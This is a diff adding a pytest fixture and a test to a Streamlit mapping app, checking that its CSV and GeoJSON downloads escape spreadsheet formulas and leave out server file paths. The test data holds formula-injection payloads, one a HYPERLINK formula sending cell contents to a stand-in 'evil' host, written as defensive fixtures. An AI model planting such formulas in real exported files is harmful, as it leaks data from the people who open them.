@@ -10,6 +10,8 @@ CSV export's in test_export.py.
 
 from __future__ import annotations
 
+import csv
+import io
 import os
 import re
 import subprocess
@@ -20,6 +22,7 @@ import pytest
 import streamlit as st
 from app_support import page, run
 from handmade import FakeGeoparser, corpus, write_seed_files
+from streamlit.runtime.media_file_manager import MediaFileManager
 
 from mapapp.store import Store
 
@@ -192,3 +195,36 @@ def test_a_store_with_far_apart_days_gets_a_slider_of_its_dates(tmp_path, monkey
     assert at.select_slider(key="date").options == [
         "1900-01-01", "2023-03-01", "2023-03-02", "2023-03-03", "2023-03-04"]
     assert "2 articles from 2023-03-02 to 2023-03-04" in page(at)
+
+
+# ------------------------------- 10 and 12. what a download carries: no formula, no server path
+
+
+@pytest.fixture
+def downloads(monkeypatch) -> dict:
+    """File name → the bytes a click on its download button would get (test_app_store.py)."""
+    made: dict[str, bytes] = {}
+    real = MediaFileManager.add_deferred
+
+    def add(self, data, mimetype, coordinates, file_name=None, **kwargs):
+        made[file_name] = data
+        return real(self, data, mimetype, coordinates, file_name, **kwargs)
+
+    monkeypatch.setattr(MediaFileManager, "add_deferred", add)
+    return made
+
+
+def test_the_apps_download_defuses_formulas_and_names_files_in_the_corpus(folder, downloads):
+    (folder / "x.txt").write_text(' date 2023-05 =HYPERLINK("http://evil/"&A1,"x")\n\n'
+                                  "Bachmoet valt.", encoding="utf-8")
+    (folder / "sub").mkdir()
+    (folder / "sub" / "y.jsonl").write_text('{"id": "y", "date": "2023-05", "text": "Soledar '
+                                            'valt.", "title": "@SUM(1+1)*cmd"}\n')
+    run(date="2023-05", window="this")
+    table = list(csv.DictReader(io.StringIO(downloads["mentions_2023-05.csv"]().decode())))
+    titles = {row["article_id"]: (row["title"], row["source"]) for row in table}
+    assert titles["x"] == ('\'=HYPERLINK("http://evil/"&A1,"x")', "x.txt")
+    assert titles["y"] == ("'@SUM(1+1)*cmd", "sub/y.jsonl")
+    assert titles["a5"][1] == "a5.txt"
+    geojson = downloads["mentions_2023-05.geojson"]().decode()
+    assert str(folder) not in geojson and str(folder) not in str(table)
